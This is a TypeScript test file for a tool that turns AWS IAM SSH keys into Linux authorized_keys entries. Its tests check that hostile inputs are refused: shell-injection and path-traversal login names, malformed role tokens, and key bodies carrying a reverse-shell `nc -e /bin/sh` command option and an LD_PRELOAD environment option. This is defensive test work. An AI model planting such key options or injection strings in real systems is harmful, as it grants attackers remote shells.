import {
  GetSSHPublicKeyCommand,
  IAMClient,
  ListGroupsForUserCommand,
  ListSSHPublicKeysCommand,
} from '@aws-sdk/client-iam';
import { mockClient } from 'aws-sdk-client-mock';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  assertLinuxUserName,
  formatError,
  IamDirectory,
  isKeymakerError,
  parseRoleDescription,
  resolveRoleConfig,
} from '@keymaker/core';
import { parseSshPublicKey } from '../src/ssh-key';

// A corpus of hostile and odd inputs: each must end in a clear one-line error
// or a refusal, never an exception of another kind, never a key for anyone else.

const LOGIN_NAMES = [
  'root ',
  '../x',
  '-rf',
  'a b',
  'Alice',
  'ALICE',
  'аlice',
  'alice\u200b',
  'ａlice',
  'x'.repeat(33),
  '',
  'a@b.com',
  'a.b.',
  'a+b',
  'a=b',
  'a,b',
  '$(id)',
  '`id`',
  'a;b',
  'a\nb',
  'a\0b',
  '.',
  '..',
  '-',
  'a/b',
  '*',
  'a:b',
];

describe('hostile login names', () => {
  it.each(LOGIN_NAMES)('%j is refused with one line and INVALID_USERNAME', (name) => {
    let caught: unknown;
    try {
      assertLinuxUserName(name);
    } catch (error) {
      caught = error;
    }
    expect(isKeymakerError(caught, 'INVALID_USERNAME')).toBe(true);
    expect(formatError(caught).split('\n')).toHaveLength(1);
  });

  it('costs no IAM call', async () => {
    const iam = mockClient(IAMClient);
    const directory = new IamDirectory(new IAMClient({ region: 'us-east-1' }), resolveRoleConfig({}));
    for (const name of LOGIN_NAMES)
      await expect(directory.authorizedKeys(name)).rejects.toMatchObject({ code: 'INVALID_USERNAME' });
    expect(iam.calls()).toHaveLength(0);
    iam.restore();
  });
});

const DESCRIPTIONS = [
  'keymaker_=',
  'keymaker_require_iam_group="',
  'keymaker_require_iam_group=\'a"',
  'keymaker_require_iam_group=a"b',
  'keymaker_id_resolver_account=1234567890123 keymaker_id_resolver_iam_role=r',
  'keymaker_id_resolver_iam_role=only-role',
  'keymaker_uid_scheme=LEGACY',
  'keymaker_linux_group_prefix=,',
  'keymaker_require_iam_group=a keymaker_require_iam_group=b',
  `keymaker_require_iam_group=${'g'.repeat(129)}`,
  'keymaker_REQUIRE_IAM_GROUP=a',
  'keymaker_require_iam_group=a\u0000',
];

describe('hostile role descriptions', () => {
  it.each(DESCRIPTIONS)('%j is a reported RoleConfigError', (description) => {
    let caught: unknown;
    try {
      parseRoleDescription(description);
    } catch (error) {
      caught = error;
    }
    expect(isKeymakerError(caught, 'INVALID_ROLE_CONFIG')).toBe(true);
    expect(formatError(caught).split('\n')).toHaveLength(1);
  });

  it('the word keymaker is free text; a token name without "=" is a near miss and an error (issue 13 point 3)', () => {
    expect(parseRoleDescription('see the Keymaker docs; keymaker-managed hosts')).toEqual({});
    expect(() => parseRoleDescription('see keymaker_ docs; keymaker_require_iam_group is unset')).toThrow(
      /looks like a keymaker token/,
    );
  });

  it('a long description with a valid token and garbage around it still parses', () => {
    const text = `${'x, '.repeat(400)} keymaker_require_iam_group=ops ${'~!#'.repeat(100)}`;
    expect(text.length).toBeGreaterThan(1000);
    expect(parseRoleDescription(text)).toEqual({ requireIamGroup: 'ops' });
  });
});

describe('hostile key bodies and API answers', () => {
  const dir = mkdtempSync(join(tmpdir(), 'km-hostile-'));
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(dir, 'k')]);
  const good = readFileSync(join(dir, 'k.pub'), 'utf8').trim().split(' ').slice(0, 2).join(' ');
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it.each([
    ['options', `no-pty,command="nc -e /bin/sh evil 1" ${good}`],
    ['environment option', `environment="LD_PRELOAD=/tmp/x" ${good}`],
    ['second line', `${good}\n${good}`],
    ['NUL', `${good}\0`],
    ['tab-separated type and options', `from="*"\t${good}`],
    ['huge', `ssh-ed25519 ${'A'.repeat(20000)}`],
  ])('%s never becomes an authorized_keys line', (_name, body) => {
    expect(parseSshPublicKey(body).ok).toBe(false);
  });

  it('unexpected IAM answer shapes are errors, not keys', async () => {
    const iam = mockClient(IAMClient);
    const directory = new IamDirectory(
      new IAMClient({ region: 'us-east-1' }),
      resolveRoleConfig({ requireIamGroup: 'ops' }),
    );
    const shapes: unknown[] = [
      {},
      { SSHPublicKeys: 'nope' },
      { SSHPublicKeys: [null] },
      { SSHPublicKeys: [{ Status: 'Active' }] },
      { SSHPublicKeys: [{ SSHPublicKeyId: 'APKA1', Status: 'Weird' }] },
    ];
    iam.on(ListGroupsForUserCommand).resolves({ Groups: [{ GroupName: 'ops', GroupId: 'AGPA1' }] } as never);
    for (const shape of shapes) {
      iam.on(ListSSHPublicKeysCommand).resolves(shape as never);
      await expect(directory.authorizedKeys('alice')).rejects.toMatchObject({ code: 'AWS_ERROR' });
    }
    iam.on(ListSSHPublicKeysCommand).resolves({
      SSHPublicKeys: [{ SSHPublicKeyId: 'APKA1', Status: 'Active', UserName: 'alice', UploadDate: new Date() }],
    });
    iam.on(ListGroupsForUserCommand).resolves({ Groups: [{ GroupName: 'ops' }] } as never);
    await expect(directory.authorizedKeys('alice')).rejects.toMatchObject({ code: 'AWS_ERROR' });
    iam.on(ListGroupsForUserCommand).resolves({ Groups: [{ GroupName: 'ops', GroupId: 'AGPA1' }] } as never);
    iam.on(GetSSHPublicKeyCommand).resolves({});
    await expect(directory.authorizedKeys('alice')).rejects.toMatchObject({ code: 'AWS_ERROR' });
    iam.on(GetSSHPublicKeyCommand).resolves({
      SSHPublicKey: {
        SSHPublicKeyId: 'APKA1',
        UserName: 'alice',
        Status: 'Active',
        SSHPublicKeyBody: `${good}\nssh-ed25519 AAAA`,
      },
    } as never);
    await expect(directory.authorizedKeys('alice')).resolves.toMatchObject({
      keys: [],
      rejected: [{ keyId: 'APKA1' }],
    });
    iam.restore();
  });
});
